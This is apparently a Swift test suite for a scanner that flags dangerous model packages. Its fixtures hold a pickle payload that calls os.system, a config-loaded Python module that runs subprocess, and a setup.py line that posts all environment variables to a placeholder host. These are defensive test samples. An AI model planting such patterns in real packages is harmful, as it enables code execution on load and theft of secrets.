import Foundation
import Testing
import WeirTestSupport

/// `weir scan` as users run it: answers, exit codes, what is kept in the dataset, and packages that are only on a hub.
@Suite struct ScanTests {
    private static let payload = Data("cos\nsystem\n(S'echo hi'\ntR.".utf8)
    private static let harmless = Data([0x80, 2, 0x7d, 0x2e])

    private static let package: [String: Data] = [
        "pytorch_model.bin": payload,
        "config.json": Data(#"{"model_type":"bert","auto_map":{"AutoModel":"modeling_x.XModel"}}"#.utf8),
        "modeling_x.py": Data("import subprocess\nsubprocess.run(['touch', '/tmp/x'])\nclass XModel: pass\n".utf8),
        "README.md": Data("# os.system".utf8),
        "training_args.bin": harmless,
    ]

    @Test func exitCodesSayWhatWasFound() async throws {
        let weir = try Weir()
        let folder = weir.folder.url
        try Self.payload.write(to: folder.appending(path: "evil.pkl"))
        try Self.harmless.write(to: folder.appending(path: "good.pkl"))
        try Data([0x80, 4, 0x8d]).write(to: folder.appending(path: "cut.pkl"))
        let evil = try await weir("scan", folder.path + "/evil.pkl")
        #expect(
            evil.status == 1 && evil.output.contains("CRITICAL") && evil.output.contains("os.system(\"echo hi\")"),
            "\(evil.output)")
        #expect(try await weir("scan", folder.path + "/good.pkl").status == 0)
        #expect(try await weir("scan", folder.path + "/cut.pkl").status == 2)
        #expect(try await weir("scan", folder.path + "/nowhere").status == 2)
        // What was found wins over what could not be read.
        #expect(try await weir("scan", folder.path).status == 1)
        #expect(try await weir("scan", folder.path + "/cut.pkl", folder.path + "/good.pkl").status == 2)
        for wrong in [
            ["scan"], ["scan", "x", "--max-depth", "-1"], ["scan", "x", "--fail-on", "bad"], ["scan", "x", "--max-bytes", "x"],
            ["scan", "x", "--max-time", "0"], ["scan", "x", "--json", "--format", "sarif"],
        ] {
            let result = try await runProgram(weir.program, wrong)
            #expect(result.status == 64, "\(wrong): \(result.status)")
        }
        #expect(try await weir("scan", folder.path + "/evil.pkl", "--rules", folder.path + "/good.pkl").status == 2)
    }

    @Test func theJSONIsTheContract() async throws {
        let weir = try Weir()
        let folder = weir.folder.url.appending(path: "package")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        for (name, data) in Self.package { try data.write(to: folder.appending(path: name)) }
        let result = try await weir("scan", folder.path, "--json")
        let json = try result.json()
        #expect(result.status == 1 && json["files"] as? Int == 5)
        let findings = try #require(json["findings"] as? [[String: Any]])
        for finding in findings {
            #expect(Set(["path", "rule", "severity", "message", "evidence"]).isSubset(of: finding.keys))
            #expect(["critical", "high", "medium", "low", "info"].contains(finding["severity"] as? String))
        }
        #expect(
            findings.contains {
                ($0["path"] as? String)?.hasSuffix("package/pytorch_model.bin") == true && $0["severity"] as? String == "critical"
            })
        // The configuration makes the module run when the package is loaded.
        #expect(
            findings.contains {
                ($0["path"] as? String)?.hasSuffix("modeling_x.py") == true
                    && ["critical", "high"].contains($0["severity"] as? String)
            }, "\(findings)")
        #expect((json["errors"] as? [Any])?.isEmpty == true)
        let coverage = try #require(json["coverage"] as? [[String: Any]])
        #expect(
            coverage.count == 5
                && coverage.allSatisfy { ($0["parsed"] as? Int ?? 0) + ($0["skipped"] as? Int ?? 0) == $0["size"] as? Int },
            "\(coverage)")
    }

    @Test func theSARIFIsWhatCodeScanningTakes() async throws {
        let weir = try Weir()
        let folder = weir.folder.url
        try Self.payload.write(to: folder.appending(path: "evil model.pkl"))
        try Data([0x80, 4, 0x8d]).write(to: folder.appending(path: "cut.pkl"))
        try Data("import os, requests\nrequests.post('http://x.example.invalid', data=dict(os.environ))\n".utf8).write(
            to: folder.appending(path: "setup.py"))
        let file = folder.appending(path: "out.sarif")
        #expect(
            try await weir(
                "scan", folder.path + "/evil model.pkl", folder.path + "/cut.pkl", folder.path + "/setup.py", "--sarif",
                file.path, "--quiet"
            ).status == 1)
        let schema = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "Fixtures/sarif-2.1.0-used.schema.json")
        let python = try #require(TestPlaces.python, "make test sets it up")
        let check = try await runProgram(
            python,
            [
                "-c",
                "import json,sys,jsonschema; jsonschema.Draft202012Validator(json.load(open(sys.argv[1]))).validate(json.load(open(sys.argv[2])))",
                schema.path, file.path,
            ])
        #expect(check.status == 0, "\(check.errors)")
        let log = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: file)) as? [String: Any])
        let run = try #require((log["runs"] as? [[String: Any]])?.first)
        let rules = try #require(((run["tool"] as? [String: Any])?["driver"] as? [String: Any])?["rules"] as? [[String: Any]])
        for result in try #require(run["results"] as? [[String: Any]]) {
            let index = try #require(result["ruleIndex"] as? Int)
            #expect(rules[index]["id"] as? String == result["ruleId"] as? String)
        }
        #expect("\(run)".contains("evil%20model.pkl"))
    }

    @Test func findingsOfPackagesAreKeptShownCountedAndRebuilt() async throws {
        let weir = try Weir()
        let hub = try MadeHub(["o/evil": Self.package, "o/good": ["model.bin": Self.harmless, "README.md": Data("# good".utf8)]])
        let pull = try await weir("pull", "hf", "--from", hub.server.address, "--snapshot", "files", "--scan", "--json")
        let scans = try #require(try pull.json()["scans"] as? [String: Any])
        #expect(
            pull.status == 1 && scans["packages"] as? Int == 2 && scans["dangerous"] as? [String] == ["huggingface:o/evil"],
            "\(scans)")
        let query = "SELECT package, path, rule, severity FROM findings WHERE severity IN ('critical', 'high') ORDER BY 1, 2, 3"
        let found = try await weir.sql(query)
        #expect(found.contains("huggingface:o/evil,pytorch_model.bin,pickle-dangerous-call,critical"), "\(found)")
        let show = try await weir("show", "hf:o/evil")
        #expect(show.output.contains("critical pytorch_model.bin") && show.output.contains("os.system"), "\(show.output)")
        #expect((try await weir("show", "hf:o/evil", "--json").json()["scans"] as? [[String: Any]])?.first?["files"] as? Int == 5)
        let stats = try #require(try await weir("stats", "--json").json()["scans"] as? [String: Any])
        #expect(stats["scanned"] as? Int == 2 && (stats["worst"] as? [String: Int])?["critical"] == 1, "\(stats)")
        #expect(try await weir("rebuild", "--json").json()["scans"] as? Int == 2)
        #expect(try await weir.sql(query) == found)
        // The same version does not scan a revision twice.
        let again = try await weir("pull", "hf", "--from", hub.server.address, "--snapshot", "files", "--scan", "--json")
        let unchanged = (try again.json()["scans"] as? [String: Any])?["unchanged"] as? Int
        #expect(unchanged == 2 && again.status == 0)
        let stored = try await weir("scan", "hf:o/evil", "--json")
        let path = (try stored.json()["findings"] as? [[String: Any]])?.first?["path"] as? String
        #expect(stored.status == 1 && path?.hasPrefix("huggingface:o/evil@") == true)
    }

    @Test func aPackageOnTheHubIsScannedByItsRanges() async throws {
        // 40 MB of weights that are never asked for.
        var weights = Data()
        let header = Data(#"{"w":{"dtype":"F32","shape":[10000000],"data_offsets":[0,40000000]}}"#.utf8)
        weights += withUnsafeBytes(of: UInt64(header.count).littleEndian) { Data($0) } + header + Data(count: 40_000_000)
        var files = Self.package
        files["model.safetensors"] = weights
        let hub = try MadeHub(["o/far": files])
        let weir = try Weir()
        let result = try await weir("scan", "hf:o/far", "--from", hub.server.address, "--json")
        #expect(result.status == 1, "\(result.errors)")
        let json = try result.json()
        #expect(json["files"] as? Int == files.count && (json["errors"] as? [Any])?.isEmpty == true, "\(json["errors"] ?? "")")
        let findings = try #require(json["findings"] as? [[String: Any]])
        #expect(
            findings.contains { ($0["rule"] as? String) == "pickle-dangerous-call" }
                && findings.contains { ($0["path"] as? String)?.hasSuffix("/modeling_x.py") == true })
        #expect(!FileManager.default.fileExists(atPath: weir.dataset))
        let missing = try await weir("scan", "hf:o/none", "--from", hub.server.address)
        #expect(missing.status == 2 && missing.errors.contains("error"))
    }
}
